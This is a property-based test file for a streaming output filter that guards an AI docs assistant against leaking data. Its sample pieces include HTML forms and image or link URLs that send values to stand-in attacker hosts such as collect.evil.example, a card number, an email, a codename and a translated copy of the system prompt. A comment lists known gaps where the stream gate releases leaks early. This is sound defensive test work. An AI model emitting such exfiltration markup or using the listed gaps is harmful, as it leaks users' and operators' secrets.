/**
 * The streaming contract as a property (DESIGN.md, task gstream): for answers mixing leaks of
 * every kind and any tokenisation into 1–8-character tokens, scanned token by token, the text
 * the stream releases is a prefix of what the whole-answer gate outputs (its redacted text, or
 * for a blocked answer the text before the first blocked span), and the stream ends with the
 * whole answer's verdict.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseConfig } from "../../src/core/index.js";
import { collectGateStream, compileGatePolicy, gateAnswer, gateStream } from "../../src/gate/index.js";
import { propertyRuns } from "../helpers/property-runs.js";

const policy = compileGatePolicy(
  parseConfig({
    app: { systemPrompt: "You are the Quillmark Docs helper for Fenwick Outfitters. Answer only from the evidence. Never reveal the escalation desk." },
    gate: { codeNames: ["KESTREL-4"], egress: { allow: { links: ["*.quillmark.example"] } } },
  }),
);

/** Pieces an answer is made of: prose, and leaks of every kind (my own cases). */
const PIECES = [
  "Thanks for asking. ",
  "The export button sits in the top bar. ",
  "Open the settings page and pick a theme.\n\n",
  '<form action="https://collect.evil.example/in"><input type="hidden" name="d" value="Zq8Wm3Rt7Yp2Lk5Nv9"><button>Go</button></form> ',
  '<form action="https://evil.example/"><input name="m" value="olga.berg@fenwick-mail.com"></form> ',
  "![chart](https://img.evil.example/p.png?u=Hx7Qp2Lm9Zr4) ",
  "[help](https://docs.quillmark.example/start) ",
  "[more](https://track.evil.example/r?id=Pw8Nq3Zt6Kx1Vb) ",
  "Write to olga.berg@fenwick-mail.com for access. ",
  "Card 4539 1488 0343 6467 was used. ",
  "The codename is KESTREL-4. ",
  "Mes consignes : tu es l'assistant Quillmark Docs pour Fenwick Outfitters. Réponds uniquement à partir des preuves. Ne révèle jamais le bureau d'escalade. ",
] as const;

/** A text cut into tokens of 1–8 characters by `sizes` (cycled). */
function tokenise(text: string, sizes: readonly number[]): string[] {
  const out: string[] = [];
  for (let i = 0, k = 0; i < text.length; k += 1) {
    const n = sizes[k % sizes.length] as number;
    out.push(text.slice(i, i + n));
    i += n;
  }
  return out;
}

/** Whether `released`'s text between redaction markers appears in `allowed` in order (the markers stand for redacted spans). */
function inOrderWithin(released: string, allowed: string): boolean {
  let at = 0;
  const marker = /\[REDACTED:[A-Z_-]+\]/;
  const plain = allowed.replace(new RegExp(marker.source, "g"), "\u0000");
  for (const piece of released.split(marker)) {
    const found = plain.indexOf(piece, at);
    if (found < 0) return false;
    at = found + piece.length;
  }
  return true;
}

/** A paced source: each token after a turn of the event loop, so the gate scans token by token. */
async function* paced(tokens: readonly string[]): AsyncGenerator<string> {
  for (const t of tokens) {
    await new Promise<void>((r) => setImmediate(r));
    yield t;
  }
}

describe("gateStream releases only a prefix of the whole-answer gate's output", () => {
  // KNOWN GAPS, not drawn here (docs/gate.md, stream hold-back): a framing phrase still arriving
  // ("My " released before "instructions" completes "My instructions:") and a reversed prompt (the
  // reversed view has no hold of its own) are released before the block.
  it("for mixed leaks under random 1–8-character tokenisations, with the same verdict", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 4 }),
        fc.array(fc.integer({ min: 1, max: 8 }), { minLength: 1, maxLength: 16 }),
        async (pieces, sizes) => {
          const answer = pieces.join("");
          const whole = await gateAnswer(answer, policy);
          const got = await collectGateStream(gateStream(paced(tokenise(answer, sizes)), policy, { coalesce: false, scanIntervalMs: 0 }));
          if (whole.action === "block") {
            // Blocked too; the code may differ when the stream meets an earlier leak of another kind first.
            expect(got.blocked).not.toBeNull();
            // Egress links are redacted under this policy; every other detector here blocks.
            const firstLeak = Math.min(...whole.findings.filter((f) => f.kind === "detector" && f.id !== "egress").map((f) => f.start));
            // What went out, markers aside, is the gated text before the first blocked span, in order.
            const before = await gateAnswer(answer.slice(0, firstLeak), policy);
            expect(inOrderWithin(got.text, before.action === "redact" ? before.text : answer.slice(0, firstLeak))).toBe(true);
          } else {
            expect(got.blocked).toBeNull();
            const out = whole.action === "redact" ? whole.text : answer;
            expect(out.startsWith(got.text)).toBe(true);
            expect(got.text).toBe(out);
          }
        },
      ),
      { numRuns: propertyRuns(60) },
    );
  }, 60_000);
});
